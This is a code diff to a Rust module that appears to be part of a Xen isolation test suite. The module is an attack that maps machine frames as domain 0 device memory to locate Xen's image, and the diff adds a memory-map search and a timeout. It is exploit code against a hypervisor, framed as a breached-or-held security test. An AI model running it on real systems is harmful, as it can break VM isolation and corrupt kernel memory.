@@ -1,9 +1,11 @@
 //! Any machine frame as device memory of domain 0: a page of the process becomes a page of Xen.
 
-use anyhow::Result;
+use std::time::{Duration, Instant};
+
+use anyhow::{Result, bail};
 
 use super::{Attack, Level};
-use crate::calls::{domain, memory};
+use crate::calls::{domain, memory, number};
 use crate::layout::MemoryMapping;
 use crate::outcome::{Outcome, breached, held, not_applicable};
 use crate::witness::{frame_of_own, guest_page_works, is_pv};
@@ -26,6 +28,8 @@ const MEMORY_MAPPING: u32 = 39;
 const XEN_START: u64 = 0xffff_82d0_4000_0000;
 /// Xen's image lies on such a boundary in physical memory.
 const STEP: u64 = 1 << 21;
+/// Killed in the middle, the attack would leave a hole in the kernel's memory.
+const PATIENCE: Duration = Duration::from_secs(30);
 
 fn run() -> Outcome {
     let privcmd = Privcmd::open()?;
@@ -53,12 +57,40 @@ fn run() -> Outcome {
     }
 }
 
+/// Where Xen's image can begin: in the machine's memory below four gibibytes, the highest first, because Xen moves
+/// itself as high as it can.
+fn bases(privcmd: &Privcmd) -> Result<Vec<u64>> {
+    const MACHINE_MEMORY_MAP: u64 = 10;
+    const RAM: u32 = 1;
+    /// Bytes of one entry: address, size, kind.
+    const ENTRY: usize = 20;
+    let entries = Buffer::new(1)?;
+    let request = Buffer::new(1)?;
+    request.put(0, &(PAGE / ENTRY));
+    request.put(8, &entries.address());
+    privcmd.hypercall(number::MEMORY_OP, [MACHINE_MEMORY_MAP, request.address(), 0, 0, 0])?;
+    let mut bases = Vec::new();
+    for index in 0..usize::try_from(request.get::<u32>(0))? {
+        let (start, size) = (entries.get::<u64>(index * ENTRY), entries.get::<u64>(index * ENTRY + 8));
+        if entries.get::<u32>(index * ENTRY + 16) == RAM && start < 1 << 32 {
+            let last = start.saturating_add(size).min(1 << 32) / STEP;
+            bases.extend((start / STEP..last).map(|base| base * STEP));
+        }
+    }
+    bases.sort_unstable();
+    bases.reverse();
+    Ok(bases)
+}
+
 fn search(privcmd: &Privcmd, page: &Buffer, frame: u64, place: u64, known: &[u8]) -> Result<Option<String>> {
     let offset = usize::try_from(place % PAGE as u64)?;
     let length = known.len().min(PAGE - offset);
-    // From four gibibytes downwards: Xen moves itself as high as it can below them.
-    for base in (1..(1 << 32) / STEP).rev() {
-        let machine = (base * STEP + place) / PAGE as u64;
+    let begin = Instant::now();
+    for base in bases(privcmd)? {
+        if begin.elapsed() > PATIENCE {
+            bail!("Xen was not found in {} s", PATIENCE.as_secs());
+        }
+        let machine = (base + place) / PAGE as u64;
         if map(privcmd, frame, machine, true).is_err() {
             continue;
         }
